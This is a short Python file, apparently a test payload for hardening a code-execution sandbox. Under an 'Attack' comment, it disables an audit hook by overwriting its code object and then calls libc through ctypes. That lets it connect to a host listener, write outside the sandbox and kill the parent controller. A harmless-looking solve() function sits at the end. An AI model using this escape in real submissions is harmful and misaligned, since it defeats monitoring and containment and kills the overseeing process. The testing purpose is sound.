import ctypes
import gc
import os
import socket

import numpy as np

# Attack: switch the audit hook off, then go around Python entirely (libc via ctypes): connect
# to a listener on the host's loopback, write into a folder outside the sandbox, signal the
# controller. The test fills in PORT, TARGET and PARENT.
PORT, TARGET, PARENT = 0, "", 0
for obj in gc.get_objects():
    if getattr(obj, "__qualname__", "").endswith("audit_hook.<locals>.hook"):
        try:
            obj.__code__ = (lambda *a, **k: None).__code__
        except (ValueError, TypeError):
            pass
libc = ctypes.CDLL(None, use_errno=True)
report = []
try:
    s = socket.socket()
    s.settimeout(2)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"python socket escaped")
    report.append("python socket connected")
except OSError as e:
    report.append(f"python socket: {e}")
fd = libc.socket(2, 1, 0)
addr = (ctypes.c_ubyte * 16)(2, 0, PORT >> 8, PORT & 255, 127, 0, 0, 1)
report.append(f"libc connect: {libc.connect(fd, addr, 16)} errno {ctypes.get_errno()}")
wfd = libc.open(TARGET.encode(), os.O_WRONLY | os.O_CREAT, 0o644)
report.append(f"libc open {TARGET}: {wfd} errno {ctypes.get_errno()}")
if wfd >= 0:
    libc.write(wfd, b"escaped", 7)
report.append(f"libc kill parent: {libc.kill(PARENT, 9)} errno {ctypes.get_errno()}")
print("; ".join(report))


def solve(x):
    return np.argsort(x)
